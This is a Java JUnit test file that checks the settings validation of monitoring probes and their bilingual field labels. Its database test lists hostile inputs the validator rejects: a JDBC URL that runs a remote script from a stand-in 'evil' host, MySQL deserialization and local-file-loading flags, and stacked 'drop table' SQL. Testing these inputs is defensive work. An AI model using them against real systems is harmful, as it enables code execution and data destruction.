package org.opsconsole.monitoring.probes.internal;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.opsconsole.monitoring.probes.internal.TestTargets.fields;

import java.util.List;
import java.util.Map;

import org.junit.jupiter.api.Test;
import org.opsconsole.api.monitoring.Probe;
import org.opsconsole.api.notify.SettingField;
import org.opsconsole.testing.SettingHints;

/** Each probe's settings check: good settings pass, each bad one names its field in both languages. */
class ValidationTest {

    private final NamedDataSources dataSources = new NamedDataSources();

    @Test
    void httpSettings() {
        HttpProbe http = new HttpProbe();
        assertEquals(List.of(), http.validate(Map.of("url", "https://fs.example.gov.cn/health", "method", "HEAD",
                "expectStatus", "200-299, 401", "ignoreTlsErrors", "true")));
        assertEquals(List.of(), http.validate(Map.of("url", "http://10.0.3.21:8080/", "bodyContains", "/\"UP\"/")));
        assertEquals(List.of("url"), fields(http.validate(Map.of("url", "ftp://fs.example.gov.cn/"))));
        assertEquals(List.of("url"), fields(http.validate(Map.of("url", "not a url"))));
        assertEquals(List.of("url"), fields(http.validate(Map.of("url", "https://admin:pw@fs.example.gov.cn/"))));
        assertEquals(List.of("method"), fields(http.validate(Map.of("url", "http://a.example/", "method", "POST"))));
        for (String bad : List.of("2xx", "399-200", "200,700", "200;204")) {
            assertEquals(List.of("expectStatus"), fields(http.validate(Map.of("url", "http://a.example/", "expectStatus", bad))), bad);
        }
        assertEquals(List.of("bodyContains"), fields(http.validate(Map.of("url", "http://a.example/", "bodyContains", "/(unclosed/"))));
        assertEquals(List.of("bodyContains"), fields(http.validate(Map.of("url", "http://a.example/", "method", "HEAD", "bodyContains", "UP"))));
    }

    @Test
    void tcpSettings() {
        TcpProbe tcp = new TcpProbe();
        assertEquals(List.of(), tcp.validate(Map.of("host", "db.example.gov.cn", "port", "3306")));
        assertEquals(List.of(), tcp.validate(Map.of("host", "::1", "port", "65535")));
        assertEquals(List.of("port"), fields(tcp.validate(Map.of("host", "10.0.3.21", "port", "0"))));
        assertEquals(List.of("port"), fields(tcp.validate(Map.of("host", "10.0.3.21", "port", "65536"))));
        assertEquals(List.of("port"), fields(tcp.validate(Map.of("host", "10.0.3.21", "port", "ssh"))));
        assertEquals(List.of("host"), fields(tcp.validate(Map.of("host", "http://10.0.3.21", "port", "80"))));
        assertEquals(List.of("host"), fields(tcp.validate(Map.of("host", "db:3306", "port", "3306"))));
    }

    @Test
    void databaseSettingsNeedExactlyOneOfUrlAndDataSource() {
        for (Probe probe : List.of(new DatabaseProbe(dataSources), new LoginLogProbe(dataSources))) {
            assertEquals(List.of(), probe.validate(Map.of("url", "jdbc:mysql://10.0.3.21:3306/zj_nontax", "user", "monitor")));
            assertEquals(List.of(), probe.validate(Map.of("dataSource", "sandbox-platform")));
            assertEquals(List.of("url"), fields(probe.validate(Map.of())));
            assertEquals(List.of("dataSource", "url"), fields(probe.validate(Map.of("url", "jdbc:h2:mem:x", "dataSource", "sandbox-platform"))));
            assertEquals(List.of("url"), fields(probe.validate(Map.of("url", "jdbc:postgresql://db/x"))));
            assertEquals(List.of("url"), fields(probe.validate(Map.of("url", "jdbc:h2:mem:x;init=runscript from 'http://evil/x.sql'"))));
            assertEquals(List.of("url"), fields(probe.validate(Map.of("url", "jdbc:mysql://db:3306/x?autoDeserialize=true"))));
            assertEquals(List.of("url"), fields(probe.validate(Map.of("url", "jdbc:mysql://db:3306/x?allowLoadLocalInfile=true"))));
        }
        DatabaseProbe database = new DatabaseProbe(dataSources);
        assertEquals(List.of(), database.validate(Map.of("dataSource", "p", "query", "SELECT count(*) FROM sys_user;")));
        assertEquals(List.of(), database.validate(Map.of("dataSource", "p", "query", "show tables")));
        assertEquals(List.of("query"), fields(database.validate(Map.of("dataSource", "p", "query", "delete from sys_user"))));
        assertEquals(List.of("query"), fields(database.validate(Map.of("dataSource", "p", "query", "select 1; drop table sys_user"))));
        LoginLogProbe logins = new LoginLogProbe(dataSources);
        assertEquals(List.of("windowMinutes"), fields(logins.validate(Map.of("dataSource", "p", "windowMinutes", "0"))));
        assertEquals(List.of(), logins.validate(Map.of("dataSource", "p", "windowMinutes", "15")));
    }

    @Test
    void prometheusAndHostSettings() {
        PrometheusProbe prometheus = new PrometheusProbe();
        assertEquals(List.of(), prometheus.validate(Map.of("url", "http://10.0.3.21:9100/metrics", "include", "node_(load1|cpu_.*)",
                "maxSamples", "200")));
        assertEquals(List.of("url", "include", "maxSamples"), fields(prometheus.validate(Map.of("url", "10.0.3.21:9100",
                "include", "node_[", "maxSamples", "-1"))));
        HostProbe host = new HostProbe();
        assertEquals(List.of(), host.validate(Map.of("mounts", "/, /data")));
        assertEquals(List.of(), host.validate(Map.of()));
        assertEquals(List.of("mounts"), fields(host.validate(Map.of("mounts", "/,data"))));
    }

    private List<Probe> probes() {
        return List.of(new HttpProbe(), new TcpProbe(), new DatabaseProbe(dataSources), new HostProbe(), new JvmProbe(),
                new PrometheusProbe(), new LoginLogProbe(dataSources), new HealthProbe());
    }

    @Test
    void everyFieldHasLabelsInBothLanguagesAndEveryKindAUniqueFieldName() {
        for (Probe probe : probes()) {
            List<SettingField> fields = probe.fields();
            assertEquals(fields.size(), fields.stream().map(SettingField::name).distinct().count(), probe.getClass().getSimpleName());
            for (SettingField field : fields) {
                assertEquals(false, field.label().isBlank() || field.labelEn().isBlank() || field.hint().isBlank(), field.toString());
            }
        }
    }

    /** The shell shows the part of a hint before " / " in Chinese and the part after it in English. */
    @Test
    void everySettingHintIsChineseThenEnglish() {
        int hints = 0;
        for (Probe probe : probes()) {
            hints += SettingHints.assertBilingual(probe.getClass().getSimpleName(), probe.fields());
        }
        assertEquals(24, hints);
    }
}
